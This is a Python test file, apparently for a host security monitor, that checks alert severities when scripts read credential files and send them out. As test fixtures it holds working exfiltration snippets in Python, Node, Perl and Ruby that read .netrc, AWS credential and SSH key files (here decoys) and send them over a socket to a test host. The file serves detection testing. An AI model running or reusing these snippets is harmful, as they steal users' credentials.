# SPDX-License-Identifier: GPL-2.0-or-later
"""Scripts that people write for themselves: the first time that one sends what it read of one class, the alert is low,
and from then on it is a record of severity info. Whatever is not that, reads the same file and keeps its severity."""

import os
import shutil

import harness
from net import HOST_V4
from scene import PATH
from tap import Skip, require, require_equal

# In the namespace of the tests a directory of its own, as that of the decoys is below /tmp.
HOME = "/srv/ana"
NETRC = f"{HOME}/.netrc"
AWS = f"{HOME}/.aws/credentials"
KEY = f"{HOME}/.ssh/id_ed25519"
SENDS = f"socket.create_connection(('{HOST_V4}', 443)).sendall(secret.encode())"
LIBRARY = f"import netrc, socket\nsecret = netrc.netrc('{NETRC}').authenticators('example.com')[2]\n{SENDS}\n"
OTHERS = {
    "node": f"const fs = require('fs'), net = require('net');\nconst secret = fs.readFileSync('{NETRC}');\n"
            f"const to = net.connect(443, '{HOST_V4}', () => {{ to.end(secret); }});\n",
    "perl": f"use IO::Socket::INET;\nopen(my $file, '<', '{NETRC}') or die; my $secret = join '', <$file>;\n"
            f"my $to = IO::Socket::INET->new('{HOST_V4}:443') or die; print $to $secret; close $to;\n",
    "ruby": f"require 'socket'\nsecret = File.read('{NETRC}')\nTCPSocket.new('{HOST_V4}', 443).write(secret)\n",
}


def reads(*paths):
    return f"import socket\nsecret = ''.join(open(path).read() for path in {paths!r})\n{SENDS}\n"


class Own:
    def __init__(self, s):
        self.s = s
        s.world.do("sh", "-ec", f"mount -t tmpfs -o mode=755 tmpfs /srv\ninstall -d -o ana -g ana {HOME}")
        self.write(NETRC, "machine example.com login ana password decoy\n", 0o600)
        self.write(AWS, "[default]\naws_secret_access_key = decoy\n", 0o600)
        self.write(KEY, "decoy, not a key\n", 0o600)

    def write(self, path, text, mode=0o755, user="ana"):
        self.s.world.do("mkdir", "-p", os.path.dirname(path), user=user)
        self.s.world.do("sh", "-c", 'umask 077; cat >"$1"; chmod "$2" "$1"', "sh", path, f"{mode:o}", user=user,
                        stdin=text)
        return path

    def run(self, command, user="ana", stdin=None, directory=HOME, **environment):
        """Farther below the test than its other thefts count for."""
        if not shutil.which(command[0], path=PATH) and "/" not in command[0]:
            raise Skip(f"{command[0]} is not installed", environment=True)
        for _ in range(5):
            command = ["sh", "-c", '"$@"; exit', "sh", *command]
        before = len(self.s.bw.alerts)
        result = self.s.run(["env", "-C", directory, *command], user, stdin=stdin, **environment)
        require_equal(result.returncode, 0, f"{command}: {result.stderr}")
        return self.s.bw.wait(lambda: next((a for a in self.s.bw.alerts[before:] if
                                            a["destination"]["address"] == HOST_V4), None),
                              harness.ALERT_TIMEOUT, f"{command[-3:]}: its alert")

    def judged(self, command, severity, sight, script, **kwargs):
        alert = self.run(command, **kwargs)
        found = alert["severity"], alert["script_sight"], alert["process"]["script"]
        require_equal(found, (severity, sight, script), f"{command}: {alert['summary']}\n{alert['reasons']}")
        require_equal(sum(reason["points"] for reason in alert["reasons"]), alert["score"], "the sum of the reasons")
        return alert


def netrc(own):
    """The same file, however it is started."""
    script = own.write(f"{HOME}/bin/fetch.py", LIBRARY)
    alert = own.judged(["/usr/bin/python3", "bin/fetch.py"], "low", "first", script)
    require("[netrc, first sight of this script, low]" in alert["summary"], alert["summary"])
    for command in (["/usr/bin/python3", script], ["/usr/bin/python3", "-u", "./bin/fetch.py", "argument"]):
        alert = own.judged(command, "info", "known", script)
        require("[netrc, known script, info]" in alert["summary"], alert["summary"])
    own.judged(["/usr/bin/python3", "fetch.py"], "info", "known", script, directory=f"{HOME}/bin")
    for name, first in ("env.py", "#!/usr/bin/env python3"), ("direct.py", "#!/usr/bin/python3 -B"):
        script = own.write(f"{HOME}/bin/{name}", f"{first}\n{LIBRARY}")
        own.judged([script], "low", "first", script, PATH=PATH)
        own.judged([f"./{name}"], "info", "known", script, directory=f"{HOME}/bin", PATH=PATH)


def language(own, name):
    script = own.write(f"{HOME}/bin/fetch-by-{name}", OTHERS[name])
    own.judged([name, script], "low", "first", script)
    own.judged([name, script], "info", "known", script)


def changed(own):
    script = own.write(f"{HOME}/changed.py", LIBRARY)
    own.judged(["/usr/bin/python3", script], "low", "first", script)
    own.judged(["/usr/bin/python3", script], "info", "known", script)
    own.s.world.do("sh", "-c", f"printf '#' >>{script}", user="ana")
    own.judged(["/usr/bin/python3", script], "low", "first", script)
    other = own.write(f"{HOME}/other/changed.py", LIBRARY)
    own.judged(["/usr/bin/python3", other], "low", "first", other)
    own.judged(["/usr/bin/python3", "changed.py"], "info", "known", script)


def classes(own):
    """One script reads one class, in one process or in several, and no class that is never a script's."""
    script = own.write(f"{HOME}/two.py", reads(NETRC, AWS))
    own.judged(["/usr/bin/python3", script], "high", None, script)
    script = own.write(f"{HOME}/choose.py", f"import sys, socket\nsecret = open(sys.argv[1]).read()\n{SENDS}\n")
    own.judged(["/usr/bin/python3", script, NETRC], "low", "first", script)
    own.judged(["/usr/bin/python3", script, AWS], "high", None, script)
    script = own.write(f"{HOME}/key.py", reads(KEY))
    own.judged(["/usr/bin/python3", script], "high", None, script)


def no_script(own):
    known = own.write(f"{HOME}/known.py", LIBRARY)
    own.judged(["/usr/bin/python3", known], "low", "first", known)
    own.judged(["/usr/bin/python3", "-c", LIBRARY], "medium", None, None)
    own.judged(["/usr/bin/python3", "-c", LIBRARY, known], "medium", None, None)
    own.judged(["/usr/bin/python3"], "medium", None, None, stdin=LIBRARY)
    own.judged(["/usr/bin/python3", "-"], "medium", None, None, stdin=LIBRARY)


def others_code(own):
    """Code that others could have changed, and what is not the file's own user."""
    script = own.write("/tmp/barbwire-fetch.py", LIBRARY)
    try:
        own.judged(["/usr/bin/python3", script], "medium", None, script)
    finally:
        own.s.world.do("rm", script)
    script = own.write(f"{HOME}/writable.py", LIBRARY, 0o666)
    own.judged(["/usr/bin/python3", script], "medium", None, script)
    script = own.write(f"{HOME}/ours.py", LIBRARY)
    own.judged(["/usr/bin/python3", script], "medium", None, script, user="root")
    own.judged(["/usr/bin/python3", script], "low", "first", script)
    own.judged(["/usr/bin/python3", script], "medium", None, script, PYTHONPATH=f"{HOME}/lib")
    # Of root's, and named by no rule.
    own.s.world.do("install", "-m755", "/usr/bin/python3.11", "/srv/python3.11")
    own.judged(["/srv/python3.11", script], "info", "known", script)
    own.judged(["/srv/python3.11", script], "medium", None, script, PYTHONPATH=f"{HOME}/lib")
    own.s.world.do("sh", "-ec", f"cp /usr/bin/python3.11 {HOME}/python && chmod 755 {HOME}/python", user="ana")
    require(own.run([f"{HOME}/python", script])["script_sight"] is None, "an interpreter of a user's own")


def below_a_package_manager(own):
    """As the install script of a package is below npm."""
    script = own.write(f"{HOME}/postinstall.py", LIBRARY)
    code = f"require('child_process').execFileSync('/usr/bin/python3', ['{script}'])"
    own.judged(["node", "-e", code], "high", None, script)


def cases(t, s):
    own = Own(s)
    t.case("own scripts: Python's netrc, started in six ways", netrc, own)
    for name in OTHERS:
        t.case(f"own scripts: {name}", language, own, name)
    t.case("own scripts: a byte more, and a script of the same name", changed, own)
    t.case("own scripts: a second class, and a key", classes, own)
    t.case("own scripts: code that is in no file", no_script, own)
    t.case("own scripts: others may have changed the code", others_code, own)
    t.case("own scripts: below a package manager", below_a_package_manager, own)
